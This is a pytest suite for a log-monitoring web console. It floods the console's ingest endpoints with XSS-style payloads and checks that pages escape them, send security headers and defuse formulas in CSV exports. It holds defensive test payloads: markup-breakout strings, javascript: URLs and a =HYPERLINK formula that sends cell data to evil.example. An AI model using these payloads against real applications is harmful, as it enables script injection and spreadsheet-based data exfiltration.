"""Log lines are written by attackers too: whatever they send stays text, on every page and in every export."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient

import wardlight.console

PAYLOADS = (
    "<wl-xss>", '"><wl-xss a="', "'><wl-xss a='", '" onwlxss="1', "' onwlxss='1", "</script><wl-xss>", "</style><wl-xss>",
    "--><wl-xss>", "]]></textarea></title><wl-xss>", "javascript:wlxss()", "\u2028</script><wl-xss>",
)  # fmt: skip
HOSTILE = "".join(PAYLOADS)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


class Seen(HTMLParser):
    """What a browser would make of a page: elements, attributes, addresses."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self._script = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag.startswith("wl-"):
            self.bad.append(f"element {tag}")
        for name, value in attrs:
            if name.startswith("on"):
                self.bad.append(f"attribute {name}")
            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith(
                "javascript:"
            ):
                self.bad.append(f"address {value!r:.40}")
            if name == "style":
                self.bad.append("a style in the page, which the policy forbids")
        if (
            tag == "script"
            and "src" not in dict(attrs)
            and dict(attrs).get("type") not in ("application/json", "importmap")
        ):
            self.bad.append("a script in the page, which the policy forbids")


@pytest.fixture(scope="module")
def filled(house: TestClient) -> TestClient:
    """A house in which everything that somebody may send is hostile."""
    now = time.time_ns()
    line = {
        "time": now, "message": HOSTILE, "level": "error", "service": HOSTILE, "host": HOSTILE, "kind": "error",
        "user.id": HOSTILE, "trace_id": HOSTILE, HOSTILE: HOSTILE, "exception.type": HOSTILE,
        "exception.message": HOSTILE, "exception.stacktrace": HOSTILE, "health.patient.id": HOSTILE,
        "event.name": HOSTILE, "http.route": HOSTILE, "session.id": HOSTILE, "client.address": HOSTILE,
    }  # fmt: skip
    more = [
        line | {"wardlight.kind": kind, "event.action": HOSTILE, "event.outcome": HOSTILE, "user.name": HOSTILE}
        for kind in ("application", "error", "security", "audit")
    ]
    body = "".join(json.dumps(one) + "\n" for one in [line, *more])
    posted = [house.post("/api/v1/ingest", content=body, headers={"Content-Type": "application/x-ndjson"})]
    streams = [
        {"stream": {"service_name": HOSTILE, "level": "error", "kind": "error"}, "values": [[str(now), HOSTILE]]}
    ]
    posted.append(house.post("/loki/api/v1/push", json={"streams": streams}))
    posted.append(house.post("/v1/logs", json=_otlp(now)))
    posted += [house.post("/api/v1/alertmanager", json=_alerts(severity)) for severity in ("critical", "warning")]
    deployment = {"service": "evil", "version": "1", "by": HOSTILE[:60], "note": HOSTILE, "commit": "<wl-xss>"}
    house.post("/api/v1/deployments", json=deployment)
    heartbeat = {"slug": "evil", "name": HOSTILE, "cron": "* * * * *", "zone": "UTC", "grace": "1m"}
    house.post("/api/v1/heartbeats", json=heartbeat)
    house.post("/ping/evil/fail", content=HOSTILE)
    house.post("/api/v1/maintenance", json={
        "title": HOSTILE, "comment": HOSTILE, "by": HOSTILE, "matchers": [{"name": "job", "value": HOSTILE}],
        "starts": "2026-01-01T00:00:00Z", "ends": "2026-01-01T01:00:00Z",
    })  # fmt: skip
    house.post("/api/v1/incidents/1/note", json={"note": HOSTILE, "actor": HOSTILE})
    assert [answer.status_code // 100 for answer in posted] == [2] * len(posted), [one.text[:200] for one in posted]
    return house


def _otlp(now: int) -> dict[str, Any]:
    def attribute(key: str) -> dict[str, Any]:
        return {"key": key, "value": {"stringValue": HOSTILE}}

    named = ("service.name", "host.name", "deployment.environment", HOSTILE)
    record = {
        "timeUnixNano": str(now), "severityNumber": 17, "body": {"stringValue": HOSTILE},
        "attributes": [attribute(key) for key in ("user.id", "exception.type", "exception.stacktrace", "event.name")],
    }  # fmt: skip
    resource = {"attributes": [attribute(key) for key in named]}
    return {"resourceLogs": [{"resource": resource, "scopeLogs": [{"logRecords": [record]}]}]}


def _alerts(severity: str) -> dict[str, Any]:
    labels = {"alertname": HOSTILE, "severity": severity, "category": "outage", "job": HOSTILE, "instance": HOSTILE}
    alert = {
        "status": "firing", "labels": labels, "startsAt": datetime.now(UTC).isoformat(), "endsAt": "0001-01-01T00:00:00Z",
        "annotations": {"summary": HOSTILE, "description": HOSTILE, "runbook": "javascript:wlxss()"},
        "generatorURL": "javascript:wlxss()", "fingerprint": severity,
    }  # fmt: skip
    return {
        "version": "4", "groupKey": f"{severity}{HOSTILE}", "status": "firing", "receiver": "wardlight",
        "groupLabels": labels, "commonLabels": labels, "commonAnnotations": {}, "alerts": [alert],
        "externalURL": "javascript:wlxss()", "truncatedAlerts": 0,
    }  # fmt: skip


FILLED = {
    "incident_id": "1", "uid": "wardlight-system", "window_id": "1", "secret": "none", "slug": "evil", "index": "0",
    "token": "none", "name": "service_name", "rotation": "none",
}  # fmt: skip
REFLECTED = (
    "q", "query", "expr", "user", "name", "next", "from", "to", "start", "end", "range", "service", "instance",
    "environment", "severity", "state", "kind", "patient", "text", "search", "id", "stream", "ts", "limit", "direction",
    "var-service", "page", "day", "problem", "sort", "zone", "format", "columns", "after", "before", "wrap",
)  # fmt: skip
SHOWN = ("q", "query", "user", "next", "from")
"""Those that pages show again."""


def pages(house: TestClient) -> list[str]:
    """Every address that answers with a page."""
    found = []
    for route in iter_route_contexts(house.app.routes):  # type: ignore[attr-defined]
        if "GET" in (getattr(route, "methods", None) or ()) and not route.path.startswith("/console/static"):
            path = re.sub(r"\{(\w+)(:\w+)?\}", lambda match: FILLED.get(match[1], "1"), route.path)
            if path not in ("/console/live", "/logs/tail"):
                found.append(path)
    return sorted(set(found))


def is_page(answer: Any) -> bool:
    return str(answer.headers.get("content-type", "")).startswith("text/html")


HTML = {"Accept": "text/html"}


def test_nothing_that_was_sent_is_markup_on_any_page(filled: TestClient) -> None:
    shown = []
    for path in pages(filled):
        answer = filled.get(path, headers=HTML, follow_redirects=False)
        assert answer.status_code != 500, path
        if is_page(answer):
            assert Seen(answer.text).bad == [], path
            assert "unsafe" not in answer.headers["content-security-policy"], path
            if "&lt;wl-xss&gt;" in answer.text:
                shown.append(path)
    assert {"/incidents", "/incidents/1", "/errors", "/logs"} <= set(shown), shown


def test_nothing_that_is_asked_is_markup_in_the_answer(filled: TestClient) -> None:
    for path in pages(filled):
        if not is_page(filled.get(path, headers=HTML, follow_redirects=False)):
            continue
        for asked in (dict.fromkeys(REFLECTED, HOSTILE), *({name: HOSTILE} for name in SHOWN)):
            answer = filled.get(path, params=asked, headers=HTML, follow_redirects=False)
            assert answer.status_code != 500, (path, asked.keys())
            assert Seen(answer.text).bad == [], (path, asked.keys())


@pytest.mark.parametrize(
    "query", ['{service_name=~".+"}', '{kind="error"}', '{kind=~".+"} | json', '{kind="security"}']
)
def test_lines_are_text_where_they_are_asked_for(filled: TestClient, query: str) -> None:
    answer = filled.get("/logs", params={"query": query}, headers=HTML)
    assert "&lt;wl-xss&gt;" in answer.text
    assert Seen(answer.text).bad == []


def test_every_answer_says_what_it_is_and_that_it_is_nothing_else(filled: TestClient) -> None:
    for path in pages(filled):
        answer = filled.get(path, headers=HTML, follow_redirects=False)
        assert answer.headers["x-content-type-options"] == "nosniff", path
        assert "content-security-policy" in answer.headers, path
        assert answer.headers["x-frame-options"] == "DENY", path


def test_our_scripts_make_no_markup_out_of_text() -> None:
    folder = Path(wardlight.console.__file__).parent / "static"
    for script in folder.rglob("*.js"):
        if "vendor" not in script.parts:
            found = re.findall(
                r"innerHTML|insertAdjacentHTML|outerHTML\s*=[^=]|document\.write|\beval\(|new Function|setAttribute\(.on",
                script.read_text(),
            )
            assert found == [], script.name


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", " =", "\n=", "\uff1d"])
def test_no_cell_of_an_export_is_a_formula(filled: TestClient, sign: str) -> None:
    line = {"message": f"{sign}{FORMULA[1:]}", "service": "sheet", "user.id": f"{sign}cmd", f"{sign}name": "x"}
    assert filled.post("/api/v1/ingest", json=line).status_code // 100 == 2
    answer = filled.get("/logs/download", params={"query": '{service_name="sheet"}', "format": "csv"})
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="logs.csv"'
    found = cells(answer.text)
    assert any("HYPERLINK" in cell for cell in found)
    assert [cell for cell in found if cell.lstrip(" \n")[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")] == []


def test_no_cell_of_an_audit_export_is_a_formula(filled: TestClient) -> None:
    event = {
        "message": "x",
        "wardlight.kind": "audit",
        "user.id": FORMULA,
        "health.patient.id": "+1",
        "service": "@SUM(1)",
    }
    assert filled.post("/api/v1/ingest", json=event).status_code // 100 == 2
    answer = filled.get("/api/v1/audit", params={"format": "csv"})
    assert answer.headers["content-type"].startswith("text/csv")
    assert [cell for cell in cells(answer.text) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
